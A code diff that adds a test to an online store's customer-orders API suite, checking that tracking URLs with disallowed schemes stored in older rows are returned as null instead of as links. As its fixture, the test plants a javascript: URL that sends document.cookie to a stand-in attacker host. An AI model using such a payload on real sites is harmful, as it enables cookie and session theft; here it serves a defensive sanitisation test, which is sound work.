@@ -178,6 +178,42 @@ describe('listCurrentCustomerOrders', () => {
     expect(one.data!.data).toEqual(seen);
   });
 
+  test('a tracking URL of another scheme stored before the contract refused it on write answers null, never as a link', async () => {
+    const location = store.project.default_location_id;
+    const product = await createProduct(api, { title: 'Rain Shell', variants: [{ title: 'M', price: 7000 }] });
+    const variantId = product.variants[0].id;
+    await api.PUT('/v1/inventory-levels', { body: { variant_id: variantId, location_id: location, available: 2 } });
+    const draft = await createDraftOrder(api, {
+      currency: 'EUR',
+      customer_id: ana.customer.id,
+      customer_email: undefined,
+    });
+    await addItems(api, draft.id, [{ variant_id: variantId, quantity: 2 }]);
+    const order = (await api.POST('/v1/draft-orders/{id}/complete', byId(draft.id))).data!.data;
+    const shipments = [];
+    for (const url of ['https://tracking.example/1', 'HTTP://tracking.example/2'])
+      shipments.push(
+        await api.POST('/v1/orders/{id}/fulfillments', {
+          ...byId(order.id),
+          body: { location_id: location, line_items: [{ line_item_index: 0, quantity: 1 }], tracking_url: url },
+        }),
+      );
+    expect(shipments.map((s) => s.response.status)).toEqual([201, 400]); // the write refuses the upper-case scheme
+    const second = await api.POST('/v1/orders/{id}/fulfillments', {
+      ...byId(order.id),
+      body: { location_id: location, line_items: [{ line_item_index: 0, quantity: 1 }] },
+    });
+    // As rows written before the contract refused other schemes hold them.
+    await app.deps.db.fulfillment.update({
+      where: { id: second.data!.data.id },
+      data: { trackingUrl: 'javascript:fetch("//evil.example/?c="+document.cookie)' },
+    });
+    const { data } = await me(ana).GET('/v1/me/orders/{id}', byId(order.id));
+    expect(data!.data.fulfillments.map((f) => f.tracking_url)).toEqual(['https://tracking.example/1', null]);
+    const listed = await me(ana).GET('/v1/me/orders', { params: { query: { limit: 1 } } });
+    expect(listed.data!.data[0].fulfillments.map((f) => f.tracking_url)).toEqual(['https://tracking.example/1', null]);
+  });
+
   test('needs the access token: the publishable key alone, or a token of another store, answers 401', async () => {
     const anonymous = await storefront(app, store.keys.publishable_test.token).GET('/v1/me/orders');
     expect(anonymous.response.status).toBe(401);
